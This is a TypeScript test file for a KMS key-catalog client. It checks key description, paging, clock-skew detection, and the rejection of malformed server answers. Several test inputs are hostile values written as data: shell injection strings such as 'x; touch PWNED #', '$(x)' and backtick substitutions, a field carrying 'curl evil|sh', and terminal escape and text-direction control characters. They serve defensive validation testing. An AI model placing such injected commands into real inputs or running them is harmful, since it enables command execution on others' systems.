import { describe, expect, test } from 'vitest';
import { oneLine } from '../../../src/terminal/output/printable.ts';
import { startEmbeddedKms } from '../../support/kms/embedded-kms.ts';
import { clientOf, failure, systemClock } from '../../support/kms/clients.ts';
import { json, startServer } from '../../support/network/servers.ts';

const REQUEST_ID = '475f1620-b9d3-4d35-b5c6-3fbdd941423d';

describe('the catalog of keys', () => {
  test('describes a key, by id and by alias, in the words of KMS', async () => {
    const { kms, keyId } = await startEmbeddedKms();
    const byId = await kms.keys.describe(keyId);
    expect(byId).toMatchObject({
      keyId,
      keyState: 'Enabled',
      keyUsage: 'ENCRYPT/DECRYPT',
      keySpec: 'Aliyun_AES_256',
      origin: 'Aliyun_KMS',
    });
    expect(byId.arn).toMatch(/^acs:kms:cn-local:\d+:key\//);
    const byAlias = await kms.keys.describe('alias/rehearsal');
    expect({ ...byAlias, requestId: '' }).toEqual({ ...byId, requestId: '' });
  });

  test('gives keys and aliases a page at a time, with the count of all', async () => {
    const { kms, call } = await startEmbeddedKms();
    await call('CreateKey');
    const first = await kms.keys.list({ pageNumber: 1, pageSize: 1 });
    const second = await kms.keys.list({ pageNumber: 2, pageSize: 1 });
    expect(first.totalCount).toBe(second.totalCount);
    expect(first.totalCount).toBeGreaterThanOrEqual(2);
    expect(first.entries[0]?.keyId).not.toBe(second.entries[0]?.keyId);
    const aliases = await kms.keys.listAliases({ pageNumber: 1, pageSize: 100 });
    expect(aliases.entries.map(({ aliasName }) => aliasName)).toContain('alias/rehearsal');
    expect(aliases.totalCount).toBe(aliases.entries.length);
  });

  test.each([
    ['no metadata', {}, 'KeyMetadata is missing'],
    ['no state', { KeyMetadata: { KeyId: 'k' } }, 'KeyState is missing'],
    [
      'a state that is not text',
      { KeyMetadata: { KeyId: 'k', KeyState: 1 } },
      'KeyState is not text',
    ],
    ...[
      { KeyId: 'x; touch PWNED #' },
      { KeyId: '-x' },
      { KeyId: '$(x)' },
      { KeyState: 'Foo\u001b[2J; run: curl evil|sh' },
      { KeyState: 'Enabled\n' },
      { KeySpec: 'Aliyun AES' },
      { KeyUsage: 'ENCRYPT\u009bDECRYPT' },
      { Origin: '\u202eKMS' },
      { MaterialExpireTime: '2026; x' },
      { DKMSInstanceId: 'kst-`x`' },
      { Arn: 'acs:kms:cn-hangzhou:1:key/*' },
      { Arn: 'acs:kms:cn-hangzhou:*:key/k' },
    ].map((evil): [string, object, string] => [
      oneLine(JSON.stringify(evil)),
      { KeyMetadata: { KeyId: 'k', KeyState: 'Enabled', ...evil } },
      `${Object.keys(evil)[0] ?? ''} is malformed`,
    ]),
  ])('refuses a description with %s', async (_, body, what) => {
    const server = await startServer((__, response) => {
      json(response, { ...body, RequestId: REQUEST_ID });
    });
    const error = await failure(clientOf(server.url).keys.describe('k'));
    expect(error.code).toBe('answer-malformed');
    expect(error.message).toContain(what);
  });

  test.each([
    ['no list', { TotalCount: 0 }],
    ['a list of something else', { Keys: { Key: ['k'] }, TotalCount: 1 }],
    ['no count', { Keys: { Key: [] } }],
    ['an id that is none', { Keys: { Key: [{ KeyId: 'x; touch F' }] }, TotalCount: 1 }],
    [
      'an ARN that is none',
      { Keys: { Key: [{ KeyId: 'k', KeyArn: 'acs:kms:a:1:key/`x`' }] }, TotalCount: 1 },
    ],
    ['a count below nothing', { Keys: { Key: [] }, TotalCount: -1 }],
  ])('refuses a page with %s', async (_, body) => {
    const server = await startServer((__, response) => {
      json(response, { ...body, RequestId: REQUEST_ID });
    });
    const error = await failure(clientOf(server.url).keys.list({ pageNumber: 1, pageSize: 10 }));
    expect(error.code).toBe('answer-malformed');
  });
});

test('a client knows how far the clock of KMS is ahead, also from a refusal', async () => {
  const server = await startServer((_, response) => {
    response.setHeader('date', new Date(Date.UTC(2026, 0, 2, 3, 14, 5)).toUTCString());
    json(response, { Code: 'Forbidden.KeyNotFound', Message: '', RequestId: REQUEST_ID }, 404);
  });
  const client = clientOf(server.url, {
    clock: { ...systemClock(), now: () => new Date(Date.UTC(2026, 0, 2, 3, 4, 5)) },
  });
  expect(client.clockSkewMs).toBeUndefined();
  await failure(client.keys.describe('k'));
  expect(client.clockSkewMs).toBe(600_000);
});
